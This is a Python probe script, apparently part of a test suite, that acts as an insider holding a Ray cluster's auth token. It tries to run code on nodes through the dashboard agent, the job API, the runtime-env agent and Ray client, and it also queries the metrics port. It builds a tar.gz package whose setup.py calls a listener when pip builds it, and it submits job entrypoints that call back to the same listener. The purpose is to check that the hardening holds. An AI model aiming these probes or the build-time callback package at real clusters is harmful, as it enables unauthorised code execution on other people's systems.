"""A stranger inside the cluster's network, holding the cluster's Ray token, tries every way to
run code on a node that a Ray port offers (tests/test_ray_up.py runs it on an instance of its own).

    python stranger_probe.py catch HOST PORT LOG       a listener: every request it gets, one line in LOG;
                                                      a *.tar.gz asked of it is an sdist whose build calls back
    python stranger_probe.py try HOST:PORT IP [IP ...] one JSON object: {ip: {door: what it answered}}

The doors: a job for the dashboard agent (52365) and for the job API (8265), a runtime environment
for the runtime-env agent (52366) whose `pip` package is the listener's, a task through Ray client
(10001), and the metrics (8080), which read state. Each job, package and task would call the
listener back: an empty LOG is the proof that nothing ran.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

TOKEN = Path.home() / ".ray/auth_token"


def catch(host: str, port: int, log: str) -> None:
    class Caught(BaseHTTPRequestHandler):
        def do_GET(self):
            with open(log, "a") as f:
                f.write(f"{self.client_address[0]} {self.path}\n")
            body = sdist(f"http://{host}:{port}/built{self.path}") if self.path.endswith(".tar.gz") else b"ok"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    ThreadingHTTPServer((host, port), Caught).serve_forever()


def sdist(call_back: str) -> bytes:
    """A package whose setup.py, when pip builds it, asks `call_back`."""
    files = {"probe-0.1/setup.py": f"import urllib.request\nurllib.request.urlopen({call_back!r}, timeout=5)\n"
                                   "from setuptools import setup\nsetup(name='probe', version='0.1')\n",
             "probe-0.1/PKG-INFO": "Metadata-Version: 2.1\nName: probe\nVersion: 0.1\n"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _http(url: str, body: bytes | None = None, content_type: str = "application/json") -> str:
    headers = {"Authorization": f"Bearer {TOKEN.read_text().strip()}", "Content-Type": content_type}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers), timeout=8) as reply:
            return f"answered {reply.status}"
    except urllib.error.HTTPError as e:
        return f"answered {e.code}"
    except OSError as e:
        text = str(getattr(e, "reason", e)).lower()
        return "timed out" if "timed out" in text else "refused" if "refused" in text else f"error: {text[:80]}"


def doors(listener: str, ip: str) -> dict[str, str]:
    from ray.core.generated import runtime_env_agent_pb2

    def job(door: str) -> str:
        return json.dumps({"entrypoint": f"python3 -c \"import urllib.request; urllib.request.urlopen("
                                         f"'http://{listener}/ran/{door}/{ip}')\""}).encode()

    env = runtime_env_agent_pb2.GetOrCreateRuntimeEnvRequest(
        job_id=b"01000000", serialized_runtime_env=json.dumps(
            {"pip": [f"probe @ http://{listener}/runtime-env/{ip}/probe-0.1.tar.gz"]}))
    asked = {
        "job agent": lambda: _http(f"http://{ip}:52365/api/job_agent/jobs/", job("job-agent")),
        "job API": lambda: _http(f"http://{ip}:8265/api/jobs/", job("job-api")),
        "runtime-env agent": lambda: _http(f"http://{ip}:52366/get_or_create_runtime_env", env.SerializeToString(),
                                           "application/octet-stream"),
        "metrics": lambda: _http(f"http://{ip}:8080/metrics"),
        "Ray client": lambda: ray_client(listener, ip),
    }
    with ThreadPoolExecutor(len(asked)) as pool:
        running = {door: pool.submit(fn) for door, fn in asked.items()}
        return {door: f.result() for door, f in running.items()}


def ray_client(listener: str, ip: str) -> str:
    """A task through Ray client, in a process of its own (a refused connection retries for long)."""
    code = ("import ray, urllib.request\n"
            f"ray.init('ray://{ip}:10001')\n"
            f"ray.get(ray.remote(lambda: urllib.request.urlopen('http://{listener}/ran/ray-client/{ip}').read())"
            ".remote())\n")
    try:
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=40,
                              env={"RAY_AUTH_MODE": "token", "HOME": str(Path.home()), "PATH": "/usr/bin:/bin"})
    except subprocess.TimeoutExpired:
        return "timed out"
    return "answered" if done.returncode == 0 else f"failed: {done.stderr.strip().splitlines()[-1][:120]}"


if __name__ == "__main__":
    if sys.argv[1] == "catch":
        catch(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    else:
        print(json.dumps({ip: doors(sys.argv[2], ip) for ip in sys.argv[3:]}))
